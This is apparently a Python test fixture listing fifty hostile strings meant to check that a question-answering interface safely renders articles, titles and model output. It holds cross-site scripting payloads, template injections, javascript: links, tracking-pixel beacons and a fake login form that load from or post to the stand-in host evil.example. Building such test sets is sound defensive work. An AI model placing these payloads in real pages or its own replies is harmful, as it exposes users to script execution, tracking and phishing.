"""Fifty strings that try to be more than text: in articles, titles, questions and what a model writes."""

MARK = "qa_pwned"
"""What they would set, ask or load, if they could."""

HOSTILE = [
    # scripts and handlers
    "<script>window.qa_pwned=1</script>",
    "<ScRiPt>alert('qa_pwned')</sCrIpT>",
    "<script src=//evil.example/qa_pwned.js></script>",
    "<img src=x onerror=alert('qa_pwned')>",
    '<img src=x onerror="window.qa_pwned=1">',
    "<svg onload=alert('qa_pwned')>",
    "<svg><script>window.qa_pwned=1</script></svg>",
    "<svg><animate onbegin=alert('qa_pwned') attributeName=x dur=1s>",
    "<body onload=alert('qa_pwned')>",
    "<details open ontoggle=alert('qa_pwned')>x</details>",
    "<input autofocus onfocus=alert('qa_pwned')>",
    "<video><source onerror=alert('qa_pwned')></video>",
    "<marquee onstart=alert('qa_pwned')>x</marquee>",
    "<iframe src=\"javascript:alert('qa_pwned')\"></iframe>",
    '<iframe srcdoc="<script>parent.qa_pwned=1</script>"></iframe>',
    '<object data="https://evil.example/qa_pwned"></object>',
    '<embed src="https://evil.example/qa_pwned">',
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert('qa_pwned')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('qa_pwned')>\">",
    "<template><img src=x onerror=alert('qa_pwned')></template>",
    # breaking out of where the text stands
    "\"><img src=x onerror=alert('qa_pwned')>",
    "'><svg onload=alert('qa_pwned')>",
    '" onmouseover="alert(\'qa_pwned\')" x="',
    "' onfocus='alert(\"qa_pwned\")' autofocus='",
    "</textarea><script>window.qa_pwned=1</script>",
    "</mark></p></div></section><script>window.qa_pwned=1</script>",
    "--><img src=x onerror=alert('qa_pwned')><!--",
    "]]><img src=x onerror=alert('qa_pwned')>",
    "&lt;img src=x onerror=alert('qa_pwned')&gt;",
    "&#60;script&#62;window.qa_pwned=1&#60;/script&#62;",
    # templates
    "${alert('qa_pwned')}",
    "`${window.qa_pwned=1}`",
    "{{constructor.constructor('alert(\"qa_pwned\")')()}}",
    "{{{value}}} {{#each this}}{{lookup this 'qa_pwned'}}{{/each}}",
    "<%= alert('qa_pwned') %>",
    # markdown and links
    "[click me](javascript:alert('qa_pwned'))",
    "![pixel](https://evil.example/qa_pwned.png)",
    "![pixel][1]\n\n[1]: https://evil.example/qa_pwned.png",
    "[1](https://evil.example/qa_pwned)",
    "<a href=\"javascript:alert('qa_pwned')\">source</a>",
    '<a href="https://evil.example/qa_pwned" ping="https://evil.example/qa_pwned">source</a>',
    "$$\\href{javascript:alert('qa_pwned')}{x}$$",
    # styles and loads
    "<style>body{display:none;background:url(https://evil.example/qa_pwned)}</style>",
    "<link rel=stylesheet href=https://evil.example/qa_pwned.css>",
    '<div style="position:fixed;inset:0;background:url(//evil.example/qa_pwned)">You are logged out</div>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/qa_pwned">',
    "<base href=https://evil.example/qa_pwned/>",
    # forging the page's own marks
    '<sup><button class="qa-footnote" data-event="cite" data-turn="0" data-number="1">9</button></sup> [9][99]',
    "\u202eevil \u2066moc.live\u2069 qa_pwned \u202dmarks",
    "<form action=https://evil.example/qa_pwned><button>Sign in</button></form>\u0000\u0008\ufeff",
]
